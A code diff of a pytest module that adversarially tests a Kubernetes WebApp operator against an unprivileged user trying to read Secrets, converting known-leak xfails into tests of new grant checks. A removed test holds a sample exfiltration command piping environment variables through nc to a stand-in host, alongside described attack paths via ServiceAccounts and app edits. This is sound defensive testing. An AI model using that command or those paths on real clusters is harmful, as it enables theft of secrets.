@@ -9,8 +9,9 @@ Then, as her, everything she can read is searched for the canary (plain and base
 admin, every environment snapshot her apps' Deployments name.
 
 One scene (namespaces, RBAC, the operator, the victim apps, all of Mallory's attempts created
-together) is shared by the module; each attempt is its own test. Attempts that do leak are
-strict xfails (`KnownLeakError`) describing the hole; docs/reliability.md has the table.
+together) is shared by the module; each attempt is its own test. The trust model's boundary
+(`create`/`update` on WebApps is as powerful as on the Pods they run; a grant names an app of
+the Secret's namespace) is tested from the side that holds; docs/reliability.md has the table.
 """
 
 from __future__ import annotations
@@ -30,7 +31,7 @@ import yaml
 from lightkube import ApiError, Client
 from lightkube.models.meta_v1 import ObjectMeta
 from lightkube.resources.apps_v1 import Deployment, ReplicaSet
-from lightkube.resources.core_v1 import Event, Namespace, Pod, Secret
+from lightkube.resources.core_v1 import Event, Namespace, Pod, Secret, ServiceAccount
 from lightkube.resources.rbac_authorization_v1 import Role, RoleBinding
 from tests.cluster import opkit, support
 from tests.cluster.support import BackgroundProcess, ServiceAccountIdentity, wait_for
@@ -41,10 +42,6 @@ CANARY = "canary-deputy-7f3a9c1e5b"
 CANARY_B64 = base64.b64encode(CANARY.encode()).decode()
 KUBECTL_WEBAPP = str(Path(sys.executable).parent / "kubectl-webapp")
 TEST_LABEL = "twelvefactor.dev/test"
-
-
-class KnownLeakError(AssertionError):
-    """What a strict xfail of this module expects: the leak it pins."""
 
 
 def app_spec(**extra: Any) -> dict[str, Any]:
@@ -298,14 +295,6 @@ def _stage(scene: Scene) -> None:
 # Each attempt ends in a clear condition, and nothing she could mount holds the canary
 
 
-NEVER_A_CONDITION = {"owned-name-plain"}
-NO_CONDITION = pytest.mark.xfail(
-    strict=True,
-    raises=support.WaitTimeoutError,
-    reason="bug: an ownedSecrets name taken by a Secret the operator does not watch (not opted "
-    "in) is never adopted, but the app waits for it forever with no condition: _ensure_owned "
-    "ignores create()'s False and returns pending (reconcile.py)",
-)
 ATTEMPT_IDS = [
     "secrets",
     "integrations",
@@ -321,7 +310,7 @@ ATTEMPT_IDS = [
     "operator-keys",
     "sealing-keys",
     "owned-name-opted-in",
-    pytest.param("owned-name-plain", marks=NO_CONDITION),
+    "owned-name-plain",
 ]
 
 
@@ -368,7 +357,7 @@ def test_attempt_ends_in_a_clear_condition(scene: Scene, attempt_id: str) -> Non
 
 
 # --------------------------------------------------------------------------------------------
-# Ways that do get her pods the value: strict xfails, each describing the hole
+# ServiceAccounts, and the trust model's boundary
 #
 # They use another canary, so that the attempts above and the final scan stay meaningful.
 
@@ -388,14 +377,8 @@ def runs_with(scene: Scene, app: str, image: str) -> str | None:
     return None
 
 
-@pytest.mark.xfail(
-    strict=True,
-    raises=KnownLeakError,
-    reason="hole: spec.serviceAccountName lets anyone who may create a WebApp run pods (their "
-    "image, their command) as any ServiceAccount of the namespace, e.g. one that may read "
-    "Secrets; render.py _deployment copies it unchecked",
-)
 def test_pods_as_another_service_account(scene: Scene) -> None:
+    """A ServiceAccount that has not granted her app is refused by name; nothing runs as it."""
     ns = scene.ns
     scene.secret("sa-canary", {"password": LEAK_CANARY})
     reader = [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}]
@@ -410,77 +393,126 @@ def test_pods_as_another_service_account(scene: Scene) -> None:
     assert support.api_status(denied.value) == 403
     spec = app_spec(serviceAccountName="secret-reader", image="mallory/exfil:1")
     scene.webapp(scene.mallory.client, "m-service-account", spec)
+    scene.webapp(scene.mallory.client, "m-no-account", app_spec(serviceAccountName="nobody"))
 
-    def outcome() -> str | None:
-        cond = scene.condition("m-service-account")
-        if cond.get("status") == "False" and cond.get("reason") != "RolloutInProgress":
-            return "refused"
-        selector: Any = {"twelvefactor.dev/webapp": "m-service-account"}
-        for obj in scene.admin.list(Deployment, namespace=ns, labels=selector):
-            pod = opkit.as_dict(obj)["spec"]["template"]["spec"]
-            if pod.get("serviceAccountName") == "secret-reader":
-                return "runs as secret-reader"
-        return None
+    cond = wait_for(
+        lambda: (
+            (c := scene.condition("m-service-account")).get("reason") == "ServiceAccountNotGranted"
+            and c
+        ),
+        60,
+        message=f"ServiceAccountNotGranted; now {scene.condition('m-service-account')}",
+        ignore=(ApiError,),
+    )
+    assert cond["status"] == "False"
+    assert "ServiceAccount" in cond["message"]
+    assert "secret-reader" in cond["message"]
+    assert "kubectl annotate serviceaccount secret-reader" in cond["message"]
+    assert scene.referenced_snapshots("m-service-account") == set(), "a Deployment was made"
+    missing = wait_for(
+        lambda: (
+            (c := scene.condition("m-no-account")).get("reason") == "ServiceAccountNotFound" and c
+        ),
+        60,
+        message=f"ServiceAccountNotFound; now {scene.condition('m-no-account')}",
+        ignore=(ApiError,),
+    )
+    assert "nobody" in missing["message"]
+    assert scene.referenced_snapshots("m-no-account") == set(), "a Deployment was made"
 
-    result = wait_for(outcome, 60, message="the operator to act on m-service-account")
-    if result != "refused":
-        raise KnownLeakError(
-            "m-service-account's pods run mallory/exfil:1 as ServiceAccount secret-reader, "
-            "whose token reads Secret sa-canary: Mallory has no access to it"
-        )
+
+def test_a_service_account_that_grants_the_app_runs_it(scene: Scene) -> None:
+    """The owner of a ServiceAccount grants it to an app, as for a Secret: then it runs as it."""
+    ns = scene.ns
+    account = {
+        "apiVersion": "v1",
+        "kind": "ServiceAccount",
+        "metadata": {
+            "name": "runner",
+            "namespace": ns,
+            "annotations": {"twelvefactor.dev/grant": "m-granted-account"},
+        },
+    }
+    opkit.apply(scene.admin, ServiceAccount, account)
+    scene.webapp(
+        scene.admin, "m-granted-account", app_spec(serviceAccountName="runner", image="ok:1")
+    )
+    scene.wait_ready("m-granted-account")
+    selector: Any = {"twelvefactor.dev/webapp": "m-granted-account"}
+    accounts = {
+        opkit.as_dict(d)["spec"]["template"]["spec"].get("serviceAccountName")
+        for d in scene.admin.list(Deployment, namespace=ns, labels=selector)
+    }
+    assert accounts == {"runner"}
+    # Granted to that app only: another app naming it is refused.
+    scene.webapp(scene.mallory.client, "m-runner-too", app_spec(serviceAccountName="runner"))
+    wait_for(
+        lambda: scene.condition("m-runner-too").get("reason") == "ServiceAccountNotGranted",
+        60,
+        message="ServiceAccountNotGranted for an app the account did not grant",
+        ignore=(ApiError,),
+    )
 
 
-@pytest.mark.xfail(
-    strict=True,
-    raises=KnownLeakError,
-    reason="hole: `update` on WebApps is read access to every Secret granted to any app of the "
-    "namespace: the operator rolls a granted app to the image and command of whoever edits it",
-)
-def test_updating_a_granted_app(scene: Scene) -> None:
+def test_without_update_she_cannot_change_a_granted_app(scene: Scene) -> None:
+    """The trust model (docs/reliability.md): `update` on WebApps is as powerful as `update` on
+    the Deployments they render, so it is given like that. Without it, the granted app stays
+    as its owner wrote it."""
+    ns = scene.ns
     scene.secret("payroll-db", {"password": LEAK_CANARY}, grant="payroll", opted_in=True)
     scene.webapp(scene.admin, "payroll", app_spec(image="payroll:1", **secret_ref("payroll-db")))
     scene.wait_ready("payroll")
-    # Mallory edits it, as her Role allows (an update with the resourceVersion she read).
-    body = opkit.as_dict(scene.mallory.client.get(opkit.WebApp, "payroll", namespace=scene.ns))
-    body["spec"]["image"] = "mallory/exfil:1"
-    body["spec"]["processes"] = {"web": {"command": ["sh", "-c", "env | nc exfil.example 80"]}}
-    scene.mallory.client.replace(opkit.WebApp.from_dict(body))
-    snapshot = wait_for(
-        lambda: (
-            runs_with(scene, "payroll", "mallory/exfil:1")
-            or scene.condition("payroll").get("reason") not in ("Available", "RolloutInProgress")
-        ),
-        60,
-        message="the operator to act on the edited payroll",
-    )
-    if isinstance(snapshot, str):
-        raise KnownLeakError(
-            f"payroll's pods now run mallory/exfil:1 with {snapshot}, which holds payroll-db"
-        )
+    no_update = [
+        {
+            "apiGroups": ["twelvefactor.dev"],
+            "resources": ["webapps"],
+            "verbs": ["create", "get", "list", "watch"],
+        }
+    ]
+    opkit.apply(scene.admin, Role, _role(ns, "eve", no_update))
+    opkit.apply(scene.admin, RoleBinding, _binding(ns, "eve", "eve"))
+    eve = support.service_account_identity(scene.admin, scene.kubeconfig, ns, "eve", scene.workdir)
+    try:
+        body = opkit.as_dict(eve.client.get(opkit.WebApp, "payroll", namespace=ns))
+        body["spec"]["image"] = "mallory/exfil:1"
+        with pytest.raises(ApiError) as denied:
+            eve.client.replace(opkit.WebApp.from_dict(body))
+        assert support.api_status(denied.value) == 403
+        with pytest.raises(ApiError) as denied:
+            eve.client.patch(
+                opkit.WebApp, "payroll", {"spec": {"image": "mallory/exfil:1"}}, namespace=ns
+            )
+        assert support.api_status(denied.value) == 403
+    finally:
+        eve.client.close()
+    assert runs_with(scene, "payroll", "payroll:1"), "payroll runs its own image"
+    assert runs_with(scene, "payroll", "mallory/exfil:1") is None
 
 
-@pytest.mark.xfail(
-    strict=True,
-    raises=KnownLeakError,
-    reason="hole: a grant names an app; whoever first creates a WebApp of that name in the "
-    "namespace reads the Secret (a grant made before its app is deployed, or after it was "
-    "deleted)",
-)
-def test_a_grant_to_an_app_not_yet_deployed(scene: Scene) -> None:
+def test_a_grant_by_name_reaches_no_other_namespace(scene: Scene) -> None:
+    """A grant names an app of the Secret's namespace (whoever may create WebApps there can
+    create that name: the trust model, docs/reliability.md); the same name in another
+    namespace gets nothing."""
     scene.secret("billing-db", {"password": LEAK_CANARY}, grant="billing", opted_in=True)
-    spec = app_spec(image="mallory/exfil:1", **secret_ref("billing-db"))
-    scene.webapp(scene.mallory.client, "billing", spec)
-    snapshot = wait_for(
+    body = {
+        "apiVersion": "twelvefactor.dev/v1alpha1",
+        "kind": "WebApp",
+        "metadata": {"name": "billing", "namespace": scene.other},
+        "spec": app_spec(image="mallory/exfil:1", **secret_ref(f"{scene.ns}/billing-db")),
+    }
+    obj: Any = opkit.WebApp.from_dict(body)
+    scene.admin.create(obj)
+    cond = wait_for(
         lambda: (
-            runs_with(scene, "billing", "mallory/exfil:1")
-            or scene.condition("billing").get("reason") == "SecretNotGranted"
+            (c := scene.condition("billing", scene.other)).get("reason") == "SecretNotGranted" and c
         ),
         60,
-        message="the operator to act on billing",
+        message="SecretNotGranted for billing in the other namespace",
         ignore=(ApiError,),
     )
-    if isinstance(snapshot, str):
-        raise KnownLeakError(f"Mallory's billing runs mallory/exfil:1 with {snapshot}")
+    assert cond["status"] == "False"
+    selector: Any = {"twelvefactor.dev/webapp": "billing"}
+    assert list(scene.admin.list(Deployment, namespace=scene.other, labels=selector)) == []
 
 
 # --------------------------------------------------------------------------------------------
@@ -515,8 +547,6 @@ def test_nothing_she_can_read_holds_the_canary(scene: Scene) -> None:
     ns, mallory = scene.ns, scene.mallory.client
     # Everything settled: every attempt has its condition (but the one known to get none).
     for attempt in scene.created.values():
-        if attempt.id in NEVER_A_CONDITION:
-            continue
         wait_for(lambda a=attempt: scene.condition(a.app).get("status"), 60,  # type: ignore[misc]
                  message=f"{attempt.app} to have a condition")  # fmt: skip
     with pytest.raises(ApiError) as denied:
